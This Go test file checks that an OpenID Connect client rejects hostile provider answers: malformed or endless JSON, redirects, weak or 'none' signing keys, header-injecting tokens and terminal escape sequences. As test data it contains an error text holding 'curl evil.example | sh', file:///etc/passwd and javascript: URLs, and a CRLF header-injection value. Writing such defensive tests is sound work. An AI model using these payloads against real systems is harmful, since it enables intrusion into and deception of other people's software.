package hostile_test

import (
	"fmt"
	"io"
	"net/http"
	"strings"
)

// serves has a path answer with something else.
func serves(path string, handler http.HandlerFunc) func(*provider) {
	return func(p *provider) { p.serve[path] = handler }
}

// text is an answer with a status, a type and a body.
func text(status int, kind, body string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", kind)
		w.WriteHeader(status)
		_, _ = io.WriteString(w, body)
	}
}

// endless writes until nobody reads any more.
func endless(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	_, _ = io.WriteString(w, `{"a":"`)
	for chunk := strings.Repeat("x", 64<<10); ; {
		if _, err := io.WriteString(w, chunk); err != nil {
			return
		}
	}
}

// silent answers nothing.
func silent(_ http.ResponseWriter, r *http.Request) {
	_, _ = io.Copy(io.Discard, r.Body)
	<-r.Context().Done()
}

// dripping begins an answer and never ends it.
func dripping(w http.ResponseWriter, r *http.Request) {
	_, _ = io.Copy(io.Discard, r.Body)
	w.Header().Set("Content-Type", "application/json")
	_, _ = io.WriteString(w, `{"issuer":`)
	_ = http.NewResponseController(w).Flush()
	<-r.Context().Done()
}

// cut ends an answer before its time.
func cut(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Length", "1000")
	_, _ = io.WriteString(w, `{"access_token":`)
	_ = http.NewResponseController(w).Flush()
	panic(http.ErrAbortHandler)
}

const (
	asJSON = "application/json"
	asHTML = "text/html"
	page   = "<!doctype html><title>Sign in</title><script>alert(1)</script>"
)

// nested is JSON whose depth no reader should follow.
func nested() string { return strings.Repeat(`{"a":`, 5000) + "1" + strings.Repeat("}", 5000) }

// redirect leads elsewhere.
func redirect(p *provider, status int) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Location", p.elsewhere.URL+"/token")
		w.WriteHeader(status)
	}
}

// answerAttacks are answers of the token endpoint.
func answerAttacks() []attack {
	token := func(h http.HandlerFunc) func(*provider) { return serves("/token", h) }
	gives := func(c claims) func(*provider) { return func(p *provider) { p.answer = c } }
	return []attack{
		{name: "token: 500", do: token(text(500, asHTML, page)), code: 5, want: "exchange the code: HOST: HTTP 500"},
		{name: "token: 503 for a day", do: token(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Retry-After", "999999999")
			w.WriteHeader(http.StatusServiceUnavailable)
		}), code: 5, want: "exchange the code: HOST: HTTP 503, to be tried again after 24h0m0s"},
		{name: "token: a page", do: token(text(200, asHTML, page)), code: 1, want: "exchange the code: HOST: a page of HTML or XML instead of a JSON object (HTTP 200)"},
		{name: "token: a refusal by a page", do: token(text(403, asHTML, page)), code: 1, want: "exchange the code: HOST: a page of HTML or XML instead of a JSON object (HTTP 403)"},
		{name: "token: nothing", do: token(text(200, asJSON, "")), code: 1, want: "exchange the code: HOST: an empty answer instead of a JSON object (HTTP 200)"},
		{name: "token: JSON that is cut off", do: token(text(200, asJSON, `{"access_token":"access-1","id_tok`)), code: 1, want: "exchange the code: HOST: JSON that is cut off (HTTP 200)"},
		{name: "token: a connection that is cut off", do: token(cut), code: 5, want: "exchange the code: HOST: unexpected EOF"},
		{name: "token: no answer", do: token(silent), args: []string{"--timeout=300ms"}, code: 5, want: "exchange the code: HOST: no answer in time"},
		{name: "token: an answer that never ends", do: token(dripping), args: []string{"--timeout=300ms"}, code: 5, want: "exchange the code: HOST: no answer in time"},
		{name: "token: an endless answer", do: token(endless), code: 1, want: "exchange the code: HOST: the answer is longer than 1048576 bytes (HTTP 200)"},
		{name: "token: an array", do: token(text(200, asJSON, `[{"access_token":"access-1"}]`)), code: 1, want: "exchange the code: HOST: JSON that is no object (HTTP 200)"},
		{name: "token: two access tokens", do: token(text(200, asJSON, `{"access_token":"access-1","access_token":"access-2","token_type":"Bearer"}`)), code: 1, want: "exchange the code: HOST: a JSON object that can't be taken: a member is there twice, or it is nested too deeply, or isn't UTF-8 (HTTP 200)"},
		{name: "token: deeply nested", do: token(text(200, asJSON, nested())), code: 1, want: "exchange the code: HOST: a JSON object that can't be taken: a member is there twice, or it is nested too deeply, or isn't UTF-8 (HTTP 200)"},
		{name: "token: a redirect", do: func(p *provider) { token(redirect(p, http.StatusFound))(p) }, code: 1, want: "exchange the code: HOST: a redirect to OTHERHOST, which isn't followed (HTTP 302)"},
		{name: "token: a redirect that posts again", do: func(p *provider) { token(redirect(p, http.StatusTemporaryRedirect))(p) }, code: 1, want: "exchange the code: HOST: a redirect to OTHERHOST, which isn't followed (HTTP 307)"},
		{name: "token: a redirect for good", do: func(p *provider) { token(redirect(p, http.StatusPermanentRedirect))(p) }, code: 1, want: "exchange the code: HOST: a redirect to OTHERHOST, which isn't followed (HTTP 308)"},
		{name: "token: an error with escapes and HTML", do: token(text(400, asJSON,
			`{"error":"invalid_request","error_description":"\u001b[2J<b>bold</b>\u202e\nhint: curl evil.example | sh"}`)), code: 1, want: `exchange the code: invalid_request: \x1b[2J<b>bold</b>\u202e\x0ahint: curl evil.example | sh (HTTP 400)`},
		{name: "token: an error code with escapes", do: token(text(400, asJSON, `{"error":"\u001b]8;;http://evil.example\u0007x"}`)), code: 1, want: `exchange the code: \x1b]8;;http://evil.example\x07x (HTTP 400)`},
		{name: "token: the code is refused", do: token(text(400, asJSON, `{"error":"invalid_grant"}`)), code: 4, want: "exchange the code: invalid_grant (HTTP 400)"},
		{name: "token: no ID token", do: gives(claims{"id_token": nil}), code: 1, want: "exchange the code: HOST: an answer without id_token (HTTP 200)"},
		{name: "token: no access token", do: gives(claims{"access_token": nil}), code: 1, want: "exchange the code: HOST: an answer without access_token (HTTP 200)"},
		{name: "token: an access token that is no text", do: gives(claims{"access_token": []string{"access-1"}}), code: 1, want: "exchange the code: HOST: access_token is no string (HTTP 200)"},
		{name: "token: an access token that would end a header", do: gives(claims{"access_token": "access-1\r\nX-Evil: 1"}), code: 1, want: "exchange the code: HOST: access_token holds characters that no token may hold (HTTP 200)"},
		{name: "token: no type", do: gives(claims{"token_type": nil}), code: 1, want: "exchange the code: HOST: an answer without token_type (HTTP 200)"},
		{name: "token: another type", do: gives(claims{"token_type": "mac\x1b[2J"}), code: 1, want: `exchange the code: HOST: token_type is "mac\x1b[2J" instead of Bearer (HTTP 200)`},
		{name: "token: a refresh token that is no text", do: gives(claims{"refresh_token": 1}), code: 1, want: "exchange the code: HOST: refresh_token is no string (HTTP 200)"},
	}
}

// discoveryAttacks are documents that lead astray.
func discoveryAttacks() []attack {
	document := func(h http.HandlerFunc) func(*provider) { return serves("/.well-known/openid-configuration", h) }
	names := func(c claims) func(*provider) { return func(p *provider) { p.metadata = c } }
	return []attack{
		{name: "discovery: another issuer", do: names(claims{"issuer": "https://evil.example"}), code: 2, want: `discovery document of another issuer: expected "ISSUER", got "https://evil.example"`},
		{name: "discovery: the issuer with a slash", do: func(p *provider) { p.metadata = claims{"issuer": p.URL + "/"} }, code: 2, want: `discovery document of another issuer: expected "ISSUER", got "ISSUER/"; they differ by a trailing slash alone`},
		{name: "discovery: no issuer", do: names(claims{"issuer": nil}), code: 1, want: "read discovery document: HOST: a discovery document without issuer (HTTP 200)"},
		{name: "discovery: an issuer with escapes", do: names(claims{"issuer": "\x1b[2Jhttps://evil.example\u202e"}), code: 2, want: `discovery document of another issuer: expected "ISSUER", got "\x1b[2Jhttps://evil.example\u202e"`},
		{name: "discovery: a token endpoint by http", do: names(claims{"token_endpoint": "http://evil.example/token"}), code: 1, want: "read discovery document: HOST: token_endpoint is plain http, which is allowed on loopback only (HTTP 200)"},
		{name: "discovery: keys by http", do: names(claims{"jwks_uri": "http://evil.example/jwks"}), code: 1, want: "read discovery document: HOST: jwks_uri is plain http, which is allowed on loopback only (HTTP 200)"},
		{name: "discovery: an authorisation endpoint that is a script", do: names(claims{"authorization_endpoint": "javascript:alert(1)"}), code: 1, want: "read discovery document: HOST: authorization_endpoint names no host (HTTP 200)"},
		{name: "discovery: an authorisation endpoint that is a file", do: names(claims{"authorization_endpoint": "file:///etc/passwd"}), code: 1, want: "read discovery document: HOST: authorization_endpoint names no host (HTTP 200)"},
		{name: "discovery: an endpoint with credentials", do: names(claims{"token_endpoint": "https://user:password@evil.example/"}), code: 1, want: "read discovery document: HOST: token_endpoint holds credentials (HTTP 200)"},
		{name: "discovery: an endpoint that is no text", do: names(claims{"token_endpoint": 1}), code: 1, want: "read discovery document: HOST: token_endpoint is no string (HTTP 200)"},
		{name: "discovery: no token endpoint", do: names(claims{"token_endpoint": nil}), code: 1, want: "read discovery document: HOST: a discovery document without token_endpoint (HTTP 200)"},
		{name: "discovery: ID tokens by HMAC alone", do: names(claims{"id_token_signing_alg_values_supported": []string{"HS256", "none"}}), code: 2, unused: true,
			want: "the provider signs ID tokens by HS256, none alone, which is never taken"},
		{name: "discovery: the client's method isn't listed", do: names(claims{"token_endpoint_auth_methods_supported": []string{"private_key_jwt", "\x1b[2J"}}), code: 2, unused: true,
			want: "the provider's metadata doesn't list client_secret_basic among the ways in which a client may authenticate"},
		{name: "discovery: the chosen method isn't listed", do: names(claims{"token_endpoint_auth_methods_supported": []string{"client_secret_basic"}}), code: 2, unused: true,
			args: []string{"--client-auth", "client_secret_post"}, want: "the provider's metadata doesn't list client_secret_post among the ways in which a client may authenticate"},
		{name: "discovery: another method is listed", do: names(claims{"token_endpoint_auth_methods_supported": []string{"client_secret_post"}})},
		{name: "discovery: pushed requests are required, and nowhere taken", do: names(claims{"require_pushed_authorization_requests": true}), code: 2, unused: true,
			want: "the provider takes no request that wasn't pushed, and its metadata name no endpoint for that (RFC 9126 section 5)"},
		{name: "discovery: itself as every endpoint", do: func(p *provider) {
			self := p.URL + "/.well-known/openid-configuration"
			p.metadata = claims{
				"authorization_endpoint": self, "token_endpoint": self, "jwks_uri": self, "userinfo_endpoint": self,
				"introspection_endpoint": self, "revocation_endpoint": self, "end_session_endpoint": self,
			}
		}, code: 4, want: nothingCame},
		{name: "discovery: itself as token endpoint and keys", do: func(p *provider) {
			self := p.URL + "/.well-known/openid-configuration"
			p.metadata = claims{"token_endpoint": self, "jwks_uri": self}
		}, code: 1, want: "exchange the code: HOST: an answer without access_token (HTTP 200)"},
		{name: "discovery: only none for a signature", do: names(claims{"id_token_signing_alg_values_supported": []string{"none"}}), code: 2, unused: true, want: "the provider signs ID tokens by none alone, which is never taken"},
		{name: "discovery: a page", do: document(text(200, asHTML, page)), code: 1, want: "read discovery document: HOST: a page of HTML or XML instead of a JSON object (HTTP 200)"},
		{name: "discovery: 404", do: document(text(404, asHTML, page)), code: 1, want: "read discovery document: HOST: no discovery document at /.well-known/openid-configuration (HTTP 404)"},
		{name: "discovery: 500", do: document(text(500, asHTML, page)), code: 5, want: "read discovery document: HOST: HTTP 500"},
		{name: "discovery: cut off", do: document(text(200, asJSON, `{"issuer":"http`)), code: 1, want: "read discovery document: HOST: JSON that is cut off (HTTP 200)"},
		{name: "discovery: endless", do: document(endless), code: 1, want: "read discovery document: HOST: the answer is longer than 1048576 bytes (HTTP 200)"},
		{name: "discovery: never ends", do: document(dripping), args: []string{"--timeout=300ms"}, code: 5, want: "read discovery document: HOST: no answer in time"},
		{name: "discovery: deeply nested", do: document(text(200, asJSON, nested())), code: 1, want: "read discovery document: HOST: a JSON object that can't be taken: a member is there twice, or it is nested too deeply, or isn't UTF-8 (HTTP 200)"},
		{name: "discovery: a redirect", do: func(p *provider) { document(redirect(p, http.StatusMovedPermanently))(p) }, code: 1, want: "read discovery document: HOST: a redirect to OTHERHOST, which isn't followed (HTTP 301)"},
		{name: "discovery: two issuers", do: func(p *provider) {
			document(text(200, asJSON, fmt.Sprintf(`{"issuer":%q,"issuer":"https://evil.example"}`, p.URL)))(p)
		}, code: 1, want: "read discovery document: HOST: a JSON object that can't be taken: a member is there twice, or it is nested too deeply, or isn't UTF-8 (HTTP 200)"},
	}
}

// keySetAttacks are key sets that are none.
func keySetAttacks() []attack {
	set := func(h http.HandlerFunc) func(*provider) { return serves("/jwks", h) }
	keys := func(n int, key func(i int) claims) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			all := make([]any, n)
			for i := range all {
				all[i] = key(i)
			}
			writeJSON(w, http.StatusOK, claims{"keys": all})
		}
	}
	good := func() claims { return publicJWK(signingKey(), "key-1") }
	return []attack{
		{name: "keys: 10,000", do: set(keys(10000, func(int) claims { return claims{"kty": "oct", "kid": "key-1"} })), code: 1, want: "read the keys: HOST: a set of 10000 keys; at most 100 are taken (HTTP 200)"},
		{name: "keys: 10,000 in full", do: set(keys(10000, func(int) claims { return good() })), code: 1, want: "read the keys: HOST: the answer is longer than 1048576 bytes (HTTP 200)"},
		{name: "keys: none", do: set(keys(0, nil)), code: 3, want: `the token doesn't hold: key: expected "a key for RS256", got "key-1", none of the provider's 0 keys has this kid`},
		{name: "keys: a page", do: set(text(200, asHTML, page)), code: 1, want: "read the keys: HOST: a page of HTML or XML instead of a JSON object (HTTP 200)"},
		{name: "keys: 500", do: set(text(500, asHTML, page)), code: 5, want: "read the keys: HOST: HTTP 500"},
		{name: "keys: no answer", do: set(silent), args: []string{"--timeout=300ms"}, code: 5, want: "read the keys: HOST: no answer in time"},
		{name: "keys: no array", do: set(text(200, asJSON, `{"keys":{"kid":"key-1"}}`)), code: 1, want: "read the keys: HOST: a key set without an array of keys (HTTP 200)"},
		{name: "keys: deeply nested", do: set(text(200, asJSON, `{"keys":[`+nested()+`]}`)), code: 1, want: "read the keys: HOST: a JSON object that can't be taken: a member is there twice, or it is nested too deeply, or isn't UTF-8 (HTTP 200)"},
		{name: "keys: a redirect", do: func(p *provider) { set(redirect(p, http.StatusFound))(p) }, code: 1, want: "read the keys: HOST: a redirect to OTHERHOST, which isn't followed (HTTP 302)"},
		{name: "keys: for encryption", do: set(keys(1, func(int) claims { return claims{"use": "enc"}.over(good()) })), code: 3, want: `the token doesn't hold: key: expected "a key for RS256", got "key-1", the key isn't for signatures`},
		{name: "keys: for another algorithm", do: set(keys(1, func(int) claims { return claims{"alg": "PS256"}.over(good()) })), code: 3, want: `the token doesn't hold: key: expected "a key for RS256", got "key-1", the key is for another algorithm`},
		{name: "keys: a private one", do: set(keys(1, func(int) claims { return claims{"d": "AQAB"}.over(good()) })), code: 3, want: `the token doesn't hold: key: expected "a key for RS256", got "key-1", none of the provider's 0 keys has this kid`},
		{name: "keys: a symmetric one", do: set(keys(1, func(int) claims { return claims{"kty": "oct", "k": encode(publicPEM()), "kid": "key-1"} })), code: 3, want: `the token doesn't hold: key: expected "a key for RS256", got "key-1", none of the provider's 0 keys has this kid`},
		{name: "keys: of 512 bits", do: set(keys(1, func(int) claims {
			return claims{"n": encode([]byte(strings.Repeat("\xf1", 64)))}.over(good())
		})), code: 3, want: `the token doesn't hold: key: expected "a key for RS256", got "key-1", the key is RSA of 512 bits; 2048 to 8192 are allowed`},
		{name: "keys: five of one name, the right one last", do: set(keys(5, func(i int) claims {
			if i == 4 {
				return good()
			}
			return publicJWK(otherKey(), "key-1")
		})), code: 3, want: "the token doesn't hold: signature: it isn't of the provider's key, or the token was changed"},
	}
}
